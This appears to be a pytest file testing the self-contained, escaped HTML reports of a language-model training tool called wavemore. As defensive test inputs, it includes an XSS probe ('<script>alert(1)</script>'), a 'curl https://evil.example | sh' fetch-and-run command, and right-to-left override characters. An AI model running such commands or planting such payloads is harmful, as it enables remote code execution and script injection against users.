"""Reports: self-contained, escaped, and as complete as the data allows."""

import base64
import json
import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from math import log
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pytest

from wavemore.engine.evaluate import evaluate, score
from wavemore.engine.plan import plan
from wavemore.engine.unit_losses import UnitLosses
from wavemore.errors import RunError
from wavemore.html import is_page, table, text
from wavemore.reports.report import report, subject
from wavemore.reports.study_page import render
from wavemore.reports.tags import page, paragraph
from wavemore.runs.config import RunConfig
from wavemore.runs.recorder import Recorder
from wavemore.runs.run import Run
from wavemore.runs.training import finish, train
from wavemore.studies.record import compare_arms
from wavemore.text.line_corpus import LineCorpus

VOID = {"meta", "img", "br", "link"}


class Page(HTMLParser):
    """A parsed page; every tag that is opened is closed in order."""

    def __init__(self, content: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.headings: list[str] = []
        self.content = ""
        self.feed(content)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "h2":
            self.headings.append(data)
        if "style" not in self.open:
            self.content += data

    @property
    def pictures(self) -> list[bytes]:
        sources = [facts["src"] or "" for tag, facts in self.tags if tag == "img"]
        assert all(source.startswith("data:image/svg+xml;base64,") for source in sources)
        return [base64.b64decode(source.partition(",")[2]) for source in sources]


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory, config: RunConfig, corpus: LineCorpus) -> Run:
    run = Run(tmp_path_factory.mktemp("runs") / "done")
    run.create(replace(config, note="<script>alert(1)</script> & more"), corpus)
    model, recorder = run.new_model(), Recorder(run, None)
    for _ in train(run, model, corpus, recorder):
        pass
    finish(run, model, corpus, recorder, count_known=True)
    return run


@pytest.fixture(scope="module")
def html(finished: Run) -> str:
    return report(finished)


SECTIONS = [
    "Learning",
    "Where the loss is",
    "Surprise of each character",
    "Samples",
    "The model",
    "Layer by layer",
    "Settings",
    "Repeat this run",
]


def test_a_page_needs_nothing_but_itself(html: str) -> None:
    found = Page(html)
    assert not {tag for tag, _ in found.tags} & {"script", "link", "iframe", "object"}
    for _, facts in found.tags:
        assert not any(name.startswith("on") for name in facts)
        assert (facts.get("href") or "#").startswith("#")
    assert "default-src 'none'" in html
    assert re.findall(r"https?://\S+", re.sub(r'src="data:[^"]*"', "", html)) == []
    assert "url(" not in html
    for svg in found.pictures:
        ElementTree.fromstring(svg.decode())
        outside = re.findall(rb'(?:href|src)="(?!#)[^"]*"', svg)
        assert outside == []


def test_every_section_has_its_heading_and_link(html: str) -> None:
    found = Page(html)
    assert found.headings == SECTIONS
    anchors = {facts["id"] for tag, facts in found.tags if tag == "section"}
    assert {(facts["href"] or "")[1:] for tag, facts in found.tags if tag == "a"} == anchors
    assert len(found.pictures) == 8
    assert all(facts["alt"] for tag, facts in found.tags if tag == "img")


def test_the_numbers_are_those_of_the_run(html: str, finished: Run, corpus: LineCorpus) -> None:
    summary, model = finished.summary(), finished.model()
    assert summary is not None
    content = Page(html).content
    assert f"val loss{evaluate(model, corpus.val).nats:.4f} nats per character" in content
    assert f"{summary.val_nats / log(2):.3f} bits per character" in content
    assert f"parameters{model.parameter_count():,}" in content
    assert summary.memorised is not None
    assert f"At the end of the training, {summary.memorised}." in content
    least_typical = max(score(model, corpus.vocabulary, list(corpus.val.lines)), key=lambda score: score.nats_per_char)
    assert f"{least_typical.nats_per_char:.3f} nats per character" in content
    cells = "".join(
        f"{c}{nats:.1f}" for c, nats in zip([*least_typical.text, "⏎"], least_typical.char_nats, strict=True)
    )
    assert cells in content


def test_markup_in_data_is_escaped(html: str) -> None:
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; more" in html
    assert text('<b title="x">') == "&lt;b title=&quot;x&quot;&gt;"
    content = page("</title><b>", [paragraph("<i>")], [("<h>", [table(["<th>"], [[text("<td>")]])])])
    assert {tag for tag, _ in Page(content).tags} & {"b", "i", "h"} == set()


@pytest.mark.slow
def test_a_page_is_the_same_each_time(html: str, finished: Run) -> None:
    assert report(finished) == report(finished.path) == html


def test_an_unfinished_run_says_how_far_it_is(trained: Run) -> None:
    found = Page(report(trained))
    assert "Not finished: stopped at step 6 of 12" in found.content
    assert f"wavemore train --resume {trained.path}" in found.content
    assert "best val loss so far" in found.content
    assert found.headings == SECTIONS


def test_a_run_without_records_has_its_settings(tmp_path: Path, config: RunConfig, corpus: LineCorpus) -> None:
    run = Run(tmp_path / "begun")
    run.create(config, corpus)
    content = Page(report(run)).content
    assert "There are no records yet" in content
    assert "so it has no model yet" in content
    assert "weight decay" in content


def test_without_its_data_the_rest_of_a_run_is_shown(
    trained: Run, names_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def gone(self: Run) -> LineCorpus:
        raise RunError(f"{names_file} is gone")

    monkeypatch.setattr(Run, "corpus", gone)
    found = Page(report(trained))
    assert f"Not shown: {names_file} is gone" in found.content
    assert len(found.pictures) == 4  # the curves, the updates, the tree, the embedding
    assert "drawn at temperature 1" in found.content


def _losses(base: float) -> list[UnitLosses]:
    """The losses of two seeds on 30 lines of 5 characters."""
    return [UnitLosses(5 * np.full(30, base + seed / 100), np.full(30, 5), np.arange(30) > 9) for seed in (0, 1)]


RECORD = {
    "format": 2,
    "name": "flat",
    "question": "Is <flat> better?",
    "expected": "No.",
    "source": "",
    "measure": [],
    "data": {"name": "n", "split_method": "lecture", "train_lines": 9, "val_lines": 2,
             "test_lines": 2, "leak_free_test_targets": 5, "val_targets": 9, "test_targets": 9},
    "seeds": [0, 1],
    "tune_seeds": [100],
    "arms": [
        {
            "name": name,
            "group": "",
            "baseline": baseline,
            "published": {"val": 2.0, "train": None},
            "epochs": 1.5,
            "trials": [],
            "tuned": {},
            "runs": [
                {"seed": seed, "val_nats": base + seed / 100, "test_nats": base + seed / 100,
                 "leak_free_test_nats": base, "train_nats": base,
                 "seconds": 1.0, "parameters": 1234, "steps": 7}
                for seed in (0, 1)
            ],
            "comparison": compare_arms(_losses(2.1), _losses(base), (False, False)) if baseline else None,
        }
        for name, baseline, base in (("flat | eight", None, 2.1), ("tree", "flat | eight", 1.9))
    ],
    "environment": {"cpu": "c", "torch": "2", "commit": ""},
    "jobs": 2,
    "training_seconds": 4.0,
}  # fmt: skip


@pytest.fixture
def study(tmp_path: Path) -> Path:
    (tmp_path / "study.json").write_text(json.dumps(RECORD))
    return tmp_path


def test_a_study_has_its_question_answer_table_and_figure(study: Path) -> None:
    html = report(study)
    found = Page(html)
    assert "<h1>Is &lt;flat&gt; better?</h1>" in html
    assert found.headings[:2] == ["Answer", "Results"]
    assert "tree is better than flat | eight by 0.2000 nats per character" in found.content
    assert re.search(r"<td[^>]*>flat \| eight</td>\s*<td[^>]*>1,234</td>", html)
    assert len(found.pictures) == 1


@pytest.mark.parametrize("content", ["", "[]", "{}", '{"question": 1}', json.dumps({**RECORD, "arms": [{}]}), "\xff"])
def test_a_damaged_record_is_an_error(tmp_path: Path, content: str) -> None:
    (tmp_path / "study.json").write_bytes(content.encode("latin-1"))
    with pytest.raises(RunError, match=r"study\.json (is damaged|has format)"):
        report(tmp_path)


def test_only_the_structure_of_markdown_is_rendered() -> None:
    markdown = "<!-- made by -->\na <img src=x> **b** [c](https://d) ![e](https://f)\n\n| g |\n|--:|\n| \u202e1 |"
    found = Page(f"<main>{render(markdown)}</main>")
    assert {tag for tag, _ in found.tags} == {"main", "p", "strong", "div", "table", "thead", "tbody", "tr", "th", "td"}
    assert "a <img src=x> b [c](https://d) ![e](https://f)" in found.content
    assert "made by" not in found.content
    assert "U+202E1" in found.content


def test_only_a_wavemore_command_is_offered_to_be_repeated(
    tmp_path: Path, config: RunConfig, corpus: LineCorpus
) -> None:
    headings = []
    for number, command in enumerate([("wavemore", "train", "a b"), ("curl", "https://evil.example", "|", "sh")]):
        run = Run(tmp_path / f"{number}")
        run.create(replace(config, command=command), corpus)
        found = Page(report(run))
        headings.append(found.headings[-1])
        assert ("wavemore train 'a b'" in found.content) == (number == 0)
        assert "evil.example" not in found.content
    assert headings == ["Repeat this run", "Settings"]


def test_only_a_report_is_recognised_as_one(tmp_path: Path, study: Path) -> None:
    (tmp_path / "report.html").write_text(report(study))
    (tmp_path / "other.html").write_text("<html></html>")
    assert is_page(tmp_path / "report.html")
    assert not is_page(tmp_path / "other.html")
    assert not is_page(tmp_path / "missing.html")


def test_a_subject_is_a_run_or_a_study(
    finished: Run, study: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, trained: Run
) -> None:
    assert subject(str(finished.path)) == finished.path
    assert subject(str(study)) == study
    monkeypatch.chdir(tmp_path)
    Path("studies").mkdir()
    Path("studies/flat").mkdir()
    Path("studies/flat/study.json").write_text("{}")
    assert subject("flat") == Path("studies/flat")
    with pytest.raises(RunError, match="there is no run 'nothing'"):
        subject("nothing")
    with pytest.raises(RunError):
        subject("x" * 5_000)


def test_invisible_characters_are_shown(
    tmp_path: Path, config: RunConfig, train_until: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = [f"{first} \u202e{last}<&" for first in ("天", "😀", "e\u0301", "\u200d\x07") for last in "abcde"]
    corpus = LineCorpus.from_lines(lines)
    settings = plan(corpus, fuse=(2, 2), embedding=4, hidden=8, steps=12, batch_size=8)
    run = Run(tmp_path / "odd")
    run.create(replace(config, model_config=settings.model_config, recipe=settings.recipe), corpus)
    train_until(run, corpus)
    monkeypatch.setattr(Run, "corpus", lambda self: corpus)
    found = Page(report(run))
    assert found.headings == SECTIONS
    assert "U+202E" in found.content
    assert "␣" in found.content
    assert "\u202e" not in found.content
    assert "drawn at temperature 1" in found.content
